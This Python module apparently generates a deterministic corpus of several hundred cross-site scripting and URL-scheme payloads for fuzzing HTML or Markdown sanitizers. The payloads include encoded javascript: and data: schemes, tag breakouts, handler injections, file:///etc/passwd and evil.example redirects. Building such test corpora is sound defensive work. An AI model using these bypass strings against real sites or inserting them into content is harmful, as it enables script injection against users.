"""Attack strings made by rule, several hundred: elements × handlers × ways to write them, schemes × links."""

from collections.abc import Iterator
from itertools import cycle, product

ELEMENTS = (
    "img src=x {}",
    "svg {}",
    "svg><animate {} attributeName=x dur=1s",
    "svg><use href=data:image/svg+xml;base64,PHN2Zy8+ {}",
    "math><maction actiontype=statusline {} href={}",
    "video src=x {}",
    "audio src=x {}",
    "video><source {}",
    "body {}",
    "details open {}",
    "input autofocus {}",
    "select autofocus {}",
    "textarea autofocus {}",
    "button popovertarget=x {}",
    "form action={} {}",
    "form><button formaction={}",
    "iframe src={} {}",
    "object data={} {}",
    "embed src={} {}",
    "a href={} {}",
    "area href={} {}",
    "base href={}",
    "link rel=stylesheet href={} {}",
    "meta http-equiv=refresh content=0;url={}",
    "script src={}",
    "style {}>@import '{}'",
    "template><img src=x {}",
    "noscript><p title='</noscript><img src=x {}>'",
    "title><img src=x {}",
    "xmp><img src=x {}",
    "marquee {}",
    "dialog open {}",
    "x-y contenteditable tabindex=1 {}",
    "image src=x {}",
    "table background={} {}",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onmouseover", "onpointerenter", "onanimationstart")
RUN = "alert(1)"
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#9;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript:%61lert(1)",
    "javascript://%0aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:/\\evil.example",
    "https://good.example@evil.example/",
    "http://[::1]:80:80/",
    "ftp://evil.example/x",
    "intent://evil.example#Intent;end",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "a\' onmouseover=alert(1) b")',
    "[x]( {} )",
    "<{}>",
    "[x][v]\n\n[v]: {}",
    "[x]: <{}>\n\n[x]",
    "**[_x_]({})**",
    "| [x]({}) |\n|---|",
    "> [x]({})",
    "- [x]({}){{onclick=alert(1) style=position:fixed}}",
    "![x]({})",
)
# ways to write an element
WAYS = (
    "<{0}>",
    "<{0}",
    "<{0}//",
    "\"'><{0}>",
    "--><{0}>",
    "]]><{0}>",
    "</title></textarea></script></style><{0}>",
    "<<{0}>",
    "<!-- --!><{0}>",
    "<![CDATA[><{0}>]]>",
    "<?x ><{0}>?>",
    "<x title='>'><{0}>",
    "&lt;{0}&gt;",
    "&amp;lt;{0}&amp;gt;",
    "&#60;{0}&#62;",
    "&#x3c{0}&#x3e",
    "\uff1c{0}\uff1e",
    "\u2039{0}\u203a",
    "%3C{0}%3E",
    "\\u003c{0}\\u003e",
    "`<{0}>`",
    "\\<{0}\\>",
    "[<{0}>](https://a.example)",
    "*[x]: <{0}>",
    "{{{{ '<{0}>' | safe }}}}",
    "{{% raw %}}<{0}>{{% endraw %}}",
    "${{`<{0}>`}}",
)


def vectors() -> list[str]:
    """Give all attack strings: the same ones on every machine."""
    return list(dict.fromkeys((*_elements(), *_links())))


def _elements() -> Iterator[str]:
    """Yield each element with each handler, each time written in the next way; then one element in all ways."""
    ways, schemes = cycle(WAYS), cycle(SCHEMES)
    for element, handler in product(ELEMENTS, HANDLERS):
        yield next(ways).format(_filled(element, handler, next(schemes)))
    for way in WAYS:
        for spaced in ("img src=x onerror=alert(1)", "IMG/SRC=x/OnErRoR=alert(1)", "img\tsrc=x onerror\t=alert(1)"):
            yield way.format(spaced)


def _filled(element: str, handler: str, scheme: str) -> str:
    """Put the handler into the last place of an element, and the address into those before it; `=` tells which."""
    while "{}" in element:
        value = scheme if element.partition("{}")[0].endswith(("=", "'")) else f"{handler}={RUN}"
        element = element.replace("{}", value, 1)
    return element


def _links() -> Iterator[str]:
    yield from (link.format(scheme) for link, scheme in product(LINKS, SCHEMES))
